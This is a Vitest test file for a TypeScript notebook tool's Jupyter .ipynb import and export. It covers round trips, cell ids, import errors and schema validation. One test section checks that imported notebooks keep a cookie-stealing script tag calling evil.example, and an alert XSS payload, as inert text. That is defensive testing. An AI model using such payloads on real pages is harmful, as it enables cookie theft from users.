import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  NotebookImportError,
  detectNotebookFormat,
  ipynbToNotebook,
  notebookToIpynb,
  serializeIpynb,
  type NotebookImportReason,
} from '../../../src/notebook/ipynb';
import type { NbOutput } from '../../../src/notebook/ipynb-outputs';
import { parseNotebook } from '../../../src/notebook/parse';
import { serializeNotebook } from '../../../src/notebook/serialize';
import type { Cell, CellFlags, Notebook } from '../../../src/notebook/types';

const FIXTURES = join(__dirname, '../../fixtures/ipynb');
const MARKDOWN_FIXTURES = join(__dirname, '../../fixtures/notebooks/input');
const NOTEBOOKS = join(__dirname, '../../../notebooks');
const PNG_1X1 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

function readFixture(fileName: string): string {
  return readFileSync(join(FIXTURES, fileName), 'utf8');
}

/** `line` is where a cell sat in a Markdown file, not part of its content. */
function withoutLines(cells: Cell[]): Cell[] {
  return cells.map((c): Cell => (c.kind === 'code' ? { kind: 'code', id: c.id, source: c.source, flags: c.flags } : c));
}

function notebook(cells: Cell[], meta: Partial<Notebook['meta']> = {}): Notebook {
  return { meta: { id: 'nb', title: 'A notebook', summary: '', order: 0, tags: [], ...meta }, cells };
}

function code(id: string, source: string, flags: CellFlags = {}): Cell {
  return { kind: 'code', id, source, flags };
}

/** Cells of the exported object, typed loosely for assertions on the JSON shape. */
function exportedCells(nb: Notebook, outputs?: ReadonlyMap<string, NbOutput[]>): Array<Record<string, unknown>> {
  return (notebookToIpynb(nb, outputs) as { cells: Array<Record<string, unknown>> }).cells;
}

/** Imports and expects the NotebookImportError with `reason`, returning it for further checks. */
function importError(text: string, reason: NotebookImportReason, fileName = 'bad.ipynb'): NotebookImportError {
  let caught: unknown;
  try {
    ipynbToNotebook(text, fileName);
  } catch (e) {
    caught = e;
  }
  expect(caught).toBeInstanceOf(NotebookImportError);
  const error = caught as NotebookImportError;
  expect(error.reason).toBe(reason);
  return error;
}

function minimalIpynb(cells: unknown[], metadata: Record<string, unknown> = {}): string {
  return JSON.stringify({ cells, metadata, nbformat: 4, nbformat_minor: 5 });
}

const ALL_OUTPUTS: NbOutput[] = [
  { output_type: 'stream', name: 'stdout', text: 'epoch 1 loss 0.69\nepoch 2 loss 0.41\n' },
  { output_type: 'stream', name: 'stderr', text: 'slow backend\n' },
  { output_type: 'display_data', data: { 'image/png': PNG_1X1, 'text/plain': '<chart: loss>' }, metadata: {} },
  { output_type: 'display_data', data: { 'text/html': '<table>\n<tr><td>1</td></tr>\n</table>' }, metadata: {} },
  { output_type: 'execute_result', data: { 'text/plain': '0.875' }, metadata: {}, execution_count: 7 },
  { output_type: 'error', ename: 'RangeError', evalue: 'epochs must be ≥ 1', traceback: ['RangeError: epochs must be ≥ 1', '    at cell (2:3)'] },
];

describe('notebookToIpynb', () => {
  const nb = notebook(
    [
      { kind: 'markdown', id: 'md-1', source: '# Title\n\nSome *prose*.' },
      code('load', 'const x = 1;\nconst y = 2;\n'),
      code('train', 'x + y', { hidden: true, readonly: true, norun: true }),
    ],
    { summary: 'S', order: 3, tags: ['a', 'b'] },
  );

  it('writes nbformat 4.5 with the Fieldbook TypeScript kernel and the front matter', () => {
    const doc = notebookToIpynb(nb) as Record<string, unknown>;
    expect(doc['nbformat']).toBe(4);
    expect(doc['nbformat_minor']).toBe(5);
    expect(doc['metadata']).toEqual({
      fieldbook: { id: 'nb', title: 'A notebook', summary: 'S', order: 3, tags: ['a', 'b'] },
      kernelspec: { name: 'fieldbook-typescript', display_name: 'TypeScript (Fieldbook)', language: 'typescript' },
      language_info: { name: 'typescript', file_extension: '.ts', mimetype: 'text/typescript' },
    });
  });

  it('writes sources as lines that keep their newline, except the last', () => {
    const cells = exportedCells(nb);
    expect(cells.map((c) => c['source'])).toEqual([['# Title\n', '\n', 'Some *prose*.'], ['const x = 1;\n', 'const y = 2;\n'], ['x + y']]);
    expect(exportedCells(notebook([code('e', '')]))[0]!['source']).toEqual([]);
  });

  it('maps flags to Jupyter metadata and keeps the Fieldbook id', () => {
    const cells = exportedCells(nb);
    expect(cells[0]!['metadata']).toEqual({});
    expect(cells[1]!['metadata']).toEqual({ fieldbook: { id: 'load' } });
    expect(cells[2]!['metadata']).toEqual({
      editable: false,
      fieldbook: { id: 'train', norun: true },
      jupyter: { source_hidden: true },
    });
  });

  it('gives code cells a null execution_count and no outputs when it has none', () => {
    const cells = exportedCells(nb);
    expect(cells[1]).toMatchObject({ cell_type: 'code', execution_count: null, outputs: [] });
    expect(cells[0]).not.toHaveProperty('outputs');
  });

  it('takes execution_count from an execute_result output', () => {
    const cells = exportedCells(nb, new Map([['train', ALL_OUTPUTS]]));
    expect(cells[2]!['execution_count']).toBe(7);
    expect(cells[1]!['execution_count']).toBeNull();
  });

  it('writes outputs as Jupyter does: text as lines, a PNG as one string', () => {
    const outputs = exportedCells(nb, new Map([['load', ALL_OUTPUTS]]))[1]!['outputs'];
    expect(outputs).toEqual([
      { output_type: 'stream', name: 'stdout', text: ['epoch 1 loss 0.69\n', 'epoch 2 loss 0.41\n'] },
      { output_type: 'stream', name: 'stderr', text: ['slow backend\n'] },
      { output_type: 'display_data', data: { 'image/png': PNG_1X1, 'text/plain': ['<chart: loss>'] }, metadata: {} },
      { output_type: 'display_data', data: { 'text/html': ['<table>\n', '<tr><td>1</td></tr>\n', '</table>'] }, metadata: {} },
      { output_type: 'execute_result', data: { 'text/plain': ['0.875'] }, metadata: {}, execution_count: 7 },
      ALL_OUTPUTS[5],
    ]);
  });

  it('maps ids to the nbformat alphabet and makes them unique', () => {
    const long = `a${'b'.repeat(80)}`;
    const cells = exportedCells(notebook([code('step.1', ''), code('step-1', ''), code(long, ''), code(`${long}.x`, '')]));
    expect(cells.map((c) => c['id'])).toEqual(['step-1', 'step-1-2', long.slice(0, 64), `${long.slice(0, 62)}-2`]);
    expect(cells.map((c) => (c['metadata'] as { fieldbook: { id: string } }).fieldbook.id)).toEqual(['step.1', 'step-1', long, `${long}.x`]);
  });
});

describe('serializeIpynb', () => {
  it('pretty-prints with a one-space indent, sorted keys and a final newline, like Jupyter', () => {
    const text = serializeIpynb(notebook([code('a', '1')]));
    expect(text.startsWith('{\n "cells": [\n  {\n   "cell_type": "code",\n   "execution_count": null,\n   "id": "a",')).toBe(true);
    expect(text.endsWith('\n "nbformat": 4,\n "nbformat_minor": 5\n}\n')).toBe(true);
  });

  it('writes unicode as is rather than escaped', () => {
    expect(serializeIpynb(notebook([code('a', 'const café = "🚀";')]))).toContain('"const café = \\"🚀\\";"');
  });
});

describe('ipynb round trip from Fieldbook', () => {
  const markdownFixtures = ['simple.md', 'flags.md', 'nested-fences.md', 'math-html.md'];
  for (const fileName of markdownFixtures) {
    it(`gives back the cells and metadata of ${fileName}`, () => {
      const nb = parseNotebook(readFileSync(join(MARKDOWN_FIXTURES, fileName), 'utf8'), fileName);
      const { notebook: back, warnings } = ipynbToNotebook(serializeIpynb(nb), 'other-name.ipynb');
      expect(back.meta).toEqual(nb.meta);
      expect(withoutLines(back.cells)).toEqual(withoutLines(nb.cells));
      expect(warnings).toEqual([]);
    });
  }

  it('gives back the shipped start-here notebook', () => {
    const nb = parseNotebook(readFileSync(join(NOTEBOOKS, '00-start-here.md'), 'utf8'), '00-start-here.md');
    const back = ipynbToNotebook(serializeIpynb(nb)).notebook;
    expect(back.meta).toEqual(nb.meta);
    expect(withoutLines(back.cells)).toEqual(withoutLines(nb.cells));
  });

  it('keeps unicode, flags and ids that nbformat cannot hold', () => {
    const nb = notebook(
      [
        { kind: 'markdown', id: 'md-1', source: 'Données — 日本語 — 🚀\n\n$\\sum_i x_i$' },
        code('step.1', 'const naïve = "ü";', { hidden: true }),
        code('step-1', '// ✓\nnaïve', { readonly: true, norun: true }),
      ],
      { title: 'Überblick: 🚀', summary: 'Ça marche', tags: ['ü', '3'] },
    );
    const back = ipynbToNotebook(serializeIpynb(nb)).notebook;
    expect(back).toEqual(nb);
  });

  it('gives back the outputs, with text joined into strings', () => {
    const nb = notebook([code('a', 'x'), code('b', 'y')]);
    const { outputs } = ipynbToNotebook(serializeIpynb(nb, new Map([['b', ALL_OUTPUTS]])));
    expect([...outputs.keys()]).toEqual(['b']);
    expect(outputs.get('b')).toEqual(ALL_OUTPUTS);
  });
});

describe('importing a notebook written by Jupyter', () => {
  const imported = ipynbToNotebook(readFixture('jupyter-deno.ipynb'), 'notebooks/Card Fraud.ipynb');
  const { notebook: nb, outputs } = imported;

  it('joins string[] sources and keeps Jupyter ids of code cells', () => {
    const codeCells = nb.cells.filter((c) => c.kind === 'code');
    expect(codeCells.map((c) => c.id)).toEqual(['e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64', '0c5d8e21', '9f2b7d44', '5a7c3e90', 'c3b8f1d2']);
    expect(codeCells[1]!.source).toBe('const mean = amounts.reduce((a, b) => a + b, 0) / amounts.length;\nmean');
    expect(codeCells[4]!.source).toBe('');
  });

  it('merges consecutive Markdown cells and puts a raw cell in a text fence', () => {
    expect(nb.cells.map((c) => [c.kind, c.id])).toEqual([
      ['markdown', 'md-1'],
      ['code', 'e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64'],
      ['code', '0c5d8e21'],
      ['code', '9f2b7d44'],
      ['markdown', 'md-2'],
      ['code', '5a7c3e90'],
      ['code', 'c3b8f1d2'],
    ]);
    expect(nb.cells[0]!.source).toBe(
      "# Card transactions: a first look\n\nWe load a small sample and count frauds. Written in **Deno**'s Jupyter kernel." +
        '\n\nAmounts are in euros (€); the ratio is *très* skewed.',
    );
    expect(nb.cells[4]!.source).toBe('```text\nTODO: ask the risk team which threshold they use.\nExport with: jupyter nbconvert --to html\n```');
  });

  it('reads flags from Jupyter metadata', () => {
    expect(nb.cells.map((c) => (c.kind === 'code' ? c.flags : null))).toEqual([null, {}, {}, { hidden: true, readonly: true }, null, {}, {}]);
  });

  it('takes the title from the first heading and the id from the file name', () => {
    expect(nb.meta).toEqual({ id: 'Card-Fraud', title: 'Card transactions: a first look', summary: '', order: 0, tags: [] });
  });

  it('keeps every output of the cells that have them', () => {
    expect([...outputs.keys()]).toEqual(['e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64', '0c5d8e21', '9f2b7d44', '5a7c3e90']);
    expect(outputs.get('e4a91c07-77a8-4d2b-8f0e-5d3b9c1a2f64')).toEqual([{ output_type: 'stream', name: 'stdout', text: 'rows: 5\nfrauds: 1\n' }]);
    expect(outputs.get('0c5d8e21')).toEqual([
      { output_type: 'execute_result', data: { 'text/plain': '\u001b[33m209.69\u001b[39m' }, metadata: {}, execution_count: 2 },
    ]);
    expect(outputs.get('9f2b7d44')).toEqual([
      { output_type: 'display_data', data: { 'image/png': PNG_1X1, 'text/plain': '<Figure: amounts histogram>' }, metadata: {} },
    ]);
    expect(outputs.get('5a7c3e90')!.map((o) => o.output_type)).toEqual(['stream', 'error']);
    expect(outputs.get('5a7c3e90')![1]).toMatchObject({ ename: 'TypeError', traceback: expect.arrayContaining(['    at <anonymous>:2:22']) });
    expect(imported.warnings).toEqual([]);
  });

  it('saves as Markdown that parses back to the same cells and metadata', () => {
    const back = parseNotebook(serializeNotebook(nb), 'card-fraud.md');
    expect(back.meta).toEqual(nb.meta);
    expect(withoutLines(back.cells)).toEqual(nb.cells);
  });
});

describe('importing prose the Markdown format must protect', () => {
  const text = minimalIpynb([
    { cell_type: 'markdown', metadata: {}, source: 'Run this:\n\n```ts\nconst a = 1;\n```\n' },
    { cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: 'const b = 2;\r\nb' },
    { cell_type: 'markdown', metadata: {}, source: ['Unclosed:\n', '~~~python\n', 'print(1)'] },
    { cell_type: 'markdown', metadata: {}, source: '\n\n   \n' },
    { cell_type: 'raw', metadata: {}, source: 'has ``` inside' },
    { cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: ['```\n', '`x`'] },
  ]);
  const { notebook: nb } = ipynbToNotebook(text, 'prose.ipynb');

  it('keeps a ts fence in prose as an example, not a code cell', () => {
    expect(nb.cells[0]).toEqual({ kind: 'markdown', id: 'md-1', source: 'Run this:\n\n ```ts\nconst a = 1;\n```' });
  });

  it('closes a fence a Markdown cell left open and drops blank cells', () => {
    expect(nb.cells[2]!.source).toBe('Unclosed:\n~~~python\nprint(1)\n~~~\n\n````text\nhas ``` inside\n````');
  });

  it('normalises CRLF line endings in code and names cells without ids cell-<n>', () => {
    expect(nb.cells.filter((c) => c.kind === 'code').map((c) => [c.id, c.source])).toEqual([
      ['cell-1', 'const b = 2;\nb'],
      ['cell-2', '```\n`x`'],
    ]);
  });

  it('saves as Markdown that parses back to the same cells', () => {
    const back = parseNotebook(serializeNotebook(nb), 'prose.md');
    expect(withoutLines(back.cells)).toEqual(nb.cells);
    expect(back.meta).toEqual({ id: 'prose', title: 'prose', summary: '', order: 0, tags: [] });
  });
});

describe('cell ids on import', () => {
  const cell = (id: unknown, fieldbookId?: string): Record<string, unknown> => ({
    cell_type: 'code',
    execution_count: null,
    ...(id === undefined ? {} : { id }),
    metadata: fieldbookId === undefined ? {} : { fieldbook: { id: fieldbookId } },
    outputs: [],
    source: '',
  });

  it('prefers metadata.fieldbook.id to the Jupyter id', () => {
    const { notebook: nb } = ipynbToNotebook(minimalIpynb([cell('step-1', 'step.1')]));
    expect(nb.cells[0]!.id).toBe('step.1');
  });

  it('cleans Jupyter ids to the Fieldbook id pattern', () => {
    const { notebook: nb } = ipynbToNotebook(minimalIpynb([cell('_private'), cell('--'), cell('ok_1')]));
    expect(nb.cells.map((c) => c.id)).toEqual(['private', 'cell-2', 'ok_1']);
  });

  it('renames duplicate ids and says so in warnings', () => {
    const md = { cell_type: 'markdown', metadata: {}, source: 'prose' };
    const { notebook: nb, warnings } = ipynbToNotebook(minimalIpynb([md, cell('x'), cell('x'), cell('md-1')]));
    expect(nb.cells.map((c) => c.id)).toEqual(['md-1', 'x', 'x-2', 'md-1-2']);
    expect(warnings).toEqual([
      'Renamed the id of cell 3 from `x` to `x-2`: another cell already has that id.',
      'Renamed the id of cell 4 from `md-1` to `md-1-2`: another cell already has that id.',
    ]);
    expect(parseNotebook(serializeNotebook(nb)).cells.map((c) => c.id)).toEqual(['md-1', 'x', 'x-2', 'md-1-2']);
  });
});

describe('importing untrusted content', () => {
  const { notebook: nb, outputs } = ipynbToNotebook(readFixture('script-tag.ipynb'), 'script-tag.ipynb');

  it('keeps a <script> tag in Markdown as text', () => {
    expect(nb.cells[0]!.source).toContain("<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>");
  });

  it('keeps text/html outputs as strings and runs no cell', () => {
    expect(outputs.get('a4b5c6d7')![0]).toMatchObject({ data: { 'text/html': "<b>hi</b><script>alert('xss')</script>" } });
    expect((globalThis as { pwned?: unknown }).pwned).toBeUndefined();
  });
});

describe('lenient parts of import', () => {
  it('accepts a JavaScript notebook and one without language metadata', () => {
    const js = { kernelspec: { name: 'javascript', display_name: 'JavaScript (Node.js)', language: 'javascript' } };
    expect(ipynbToNotebook(minimalIpynb([], js)).notebook.cells).toEqual([]);
    expect(ipynbToNotebook('{"cells":[],"nbformat":4,"nbformat_minor":2}').notebook.meta.title).toBe('Untitled notebook');
  });

  it('leaves out a malformed output with a warning and keeps the others', () => {
    const raw = {
      cell_type: 'code',
      id: 'c',
      execution_count: 1,
      metadata: {},
      source: 'x',
      outputs: [
        { output_type: 'pyout', text: 'x' },
        { output_type: 'stream', name: 'stdout', text: ['a\n', 'b'] },
      ],
    };
    const { outputs, warnings } = ipynbToNotebook(minimalIpynb([raw]));
    expect(outputs.get('c')).toEqual([{ output_type: 'stream', name: 'stdout', text: 'a\nb' }]);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^Left out output 1 of cell 1 \(id c\): output_type `pyout`/);
  });

  it('warns that Markdown attachments are left out', () => {
    const md = { cell_type: 'markdown', metadata: {}, source: '![x](attachment:x.png)', attachments: { 'x.png': { 'image/png': PNG_1X1 } } };
    expect(ipynbToNotebook(minimalIpynb([md])).warnings).toEqual([
      'Left out the attachments (pasted images) of cell 1: Fieldbook notebooks do not store them.',
    ]);
  });

  it('takes front matter from metadata.fieldbook before the heading and file name', () => {
    const meta = { fieldbook: { id: 'x.y', title: 'T', summary: 'S', order: 2.5, tags: ['t', 4] }, title: 'Other' };
    const md = { cell_type: 'markdown', metadata: {}, source: '# Heading' };
    expect(ipynbToNotebook(minimalIpynb([md], meta), 'file.ipynb').notebook.meta).toEqual({
      id: 'x.y',
      title: 'T',
      summary: 'S',
      order: 2.5,
      tags: ['t', '4'],
    });
  });
});

describe('import errors', () => {
  it('rejects an empty file', () => {
    importError('', 'empty');
    expect(importError(' \n\t', 'empty').message).toBe('bad.ipynb: The file is empty. Choose an .ipynb file saved by Jupyter, or export it again');
  });

  it('rejects a corrupt file and says where the JSON breaks', () => {
    const error = importError(readFixture('corrupt.ipynb'), 'not-json', 'corrupt.ipynb');
    expect(error.position).toEqual({ line: 10, column: 1 });
    expect(error.message).toMatch(/^corrupt\.ipynb:10:1: The file is not valid JSON at line 10, column 1/);
  });

  it('locates JSON errors of different kinds', () => {
    expect(importError('{"a":}', 'not-json').position).toEqual({ line: 1, column: 6 });
    expect(importError('{\n "a": 1,\n}', 'not-json').position).toEqual({ line: 3, column: 1 });
    expect(importError('{"cells": [', 'not-json').position).toEqual({ line: 1, column: 12 });
    expect(importError('{"a": "x\ty"}', 'not-json').position).toEqual({ line: 1, column: 9 });
    expect(importError('{"a": "\\q"}', 'not-json').position).toEqual({ line: 1, column: 8 });
    expect(importError('{} x', 'not-json').position).toEqual({ line: 1, column: 4 });
  });

  it('rejects JSON that is not a notebook', () => {
    expect(importError('[1, 2]', 'not-a-notebook').message).toMatch(/not a Jupyter notebook: it is not a JSON object/);
    expect(importError('{"cells": []}', 'not-a-notebook').message).toMatch(/it has no nbformat version/);
    expect(importError('{"nbformat": 4, "metadata": {}}', 'not-a-notebook').message).toMatch(/it has no cells list/);
  });

  it('rejects nbformat 3 and says how to convert it', () => {
    const error = importError(readFixture('nbformat3.ipynb'), 'old-nbformat');
    expect(error.message).toContain('old nbformat 3');
    expect(error.message).toContain('jupyter nbconvert --to notebook --nbformat 4');
  });

  it('rejects an nbformat newer than 4', () => {
    importError('{"cells": [], "nbformat": 5, "nbformat_minor": 0}', 'newer-nbformat');
  });

  it('rejects a Python notebook', () => {
    const error = importError(readFixture('python.ipynb'), 'wrong-language');
    expect(error.message).toContain('Fieldbook runs TypeScript; this notebook is Python');
  });

  it('rejects an R notebook that names only its kernel', () => {
    const error = importError(minimalIpynb([], { kernelspec: { name: 'ir', display_name: 'R' } }), 'wrong-language');
    expect(error.message).toContain('this notebook is R (its kernelspec.name says so)');
  });

  it('rejects a cell whose source is not text', () => {
    const cellWith = (source: unknown): string =>
      minimalIpynb([
        { cell_type: 'markdown', metadata: {}, source: 'ok' },
        { cell_type: 'code', metadata: {}, outputs: [], source },
      ]);
    expect(importError(cellWith(42), 'bad-cell').message).toMatch(/^bad\.ipynb: Cell 2 has a source that is not text \(42\)\. Fix or delete/);
    importError(cellWith(['a\n', 7]), 'bad-cell');
    importError(cellWith(undefined), 'bad-cell');
  });

  it('rejects a cell of unknown type or that is not an object', () => {
    expect(importError(minimalIpynb([{ cell_type: 'heading', source: 'x' }]), 'bad-cell').message).toContain('unknown cell_type `heading`');
    importError(minimalIpynb(['just a string']), 'bad-cell');
  });
});

describe('detectNotebookFormat', () => {
  it('goes by the extension first', () => {
    expect(detectNotebookFormat('a/b/Fraud.IPYNB', '---\n')).toBe('ipynb');
    expect(detectNotebookFormat('fraud.md', '{"nbformat": 4}')).toBe('markdown');
    expect(detectNotebookFormat('fraud.markdown', '')).toBe('markdown');
  });

  it('sniffs the content when the extension says nothing', () => {
    expect(detectNotebookFormat('download', '\uFEFF \n{\n "cells": [],\n "nbformat": 4\n}')).toBe('ipynb');
    expect(detectNotebookFormat('notebook.txt', '---\r\ntitle: T\r\n---\r\n')).toBe('markdown');
    expect(detectNotebookFormat('data.json', '{"rows": []}')).toBe('unknown');
    expect(detectNotebookFormat('x', '# Just markdown')).toBe('unknown');
  });
});

describe('exported notebooks against the official nbformat 4.5 schema', () => {
  const PYTHON = '/usr/bin/python3';
  const VALIDATE = 'import nbformat,sys; nbformat.validate(nbformat.reads(sys.stdin.read(), as_version=4))';
  let checked: boolean | undefined;

  function runValidator(json: string): { status: number | null; stderr: string } {
    if (checked === undefined) {
      const probe = spawnSync(PYTHON, ['-c', 'import nbformat'], { encoding: 'utf8' });
      checked = probe.status === 0;
    }
    if (!checked) {
      throw new Error(
        `${PYTHON} cannot import nbformat, so exported notebooks cannot be checked against the official schema. ` +
          'Install it with `apt-get install python3-nbformat` (CI installs it).',
      );
    }
    const result = spawnSync(PYTHON, ['-c', VALIDATE], { input: json, encoding: 'utf8', timeout: 60_000 });
    return { status: result.status, stderr: result.stderr };
  }

  function expectValid(json: string): void {
    const { status, stderr } = runValidator(json);
    expect(status, stderr).toBe(0);
    // nbformat repairs duplicate or missing ids with only a warning; an export must need no repair.
    expect(stderr).not.toMatch(/DuplicateCellId|MissingIDField/);
  }

  it('validates a simple notebook', () => {
    expectValid(serializeIpynb(notebook([{ kind: 'markdown', id: 'md-1', source: '# Hi' }, code('a', 'const a = 1;')])));
  });

  it('validates a notebook with flags and ids nbformat cannot hold as they are', () => {
    const nb = notebook([
      code('step.1', 'x', { hidden: true, readonly: true, norun: true }),
      code('step-1', 'y', { norun: true }),
      code(`very.long.${'x'.repeat(70)}`, 'z'),
    ]);
    expectValid(serializeIpynb(nb));
  });

  it('validates a notebook with stream, display_data, execute_result and error outputs', () => {
    const nb = notebook([code('a', 'train()'), code('b', 'x')]);
    expectValid(
      serializeIpynb(
        nb,
        new Map([
          ['a', ALL_OUTPUTS],
          ['b', [ALL_OUTPUTS[4]!]],
        ]),
      ),
    );
  });

  it('validates the shipped start-here notebook and a re-exported Jupyter import', () => {
    const shipped = parseNotebook(readFileSync(join(NOTEBOOKS, '00-start-here.md'), 'utf8'), '00-start-here.md');
    expectValid(serializeIpynb(shipped));
    const imported = ipynbToNotebook(readFixture('jupyter-deno.ipynb'), 'jupyter-deno.ipynb');
    expectValid(serializeIpynb(imported.notebook, imported.outputs));
  });

  it('rejects a notebook without cells, so the check can fail', () => {
    const broken = JSON.parse(serializeIpynb(notebook([code('a', '1')]))) as Record<string, unknown>;
    delete broken['cells'];
    expect(runValidator(JSON.stringify(broken)).status).not.toBe(0);
  });
});
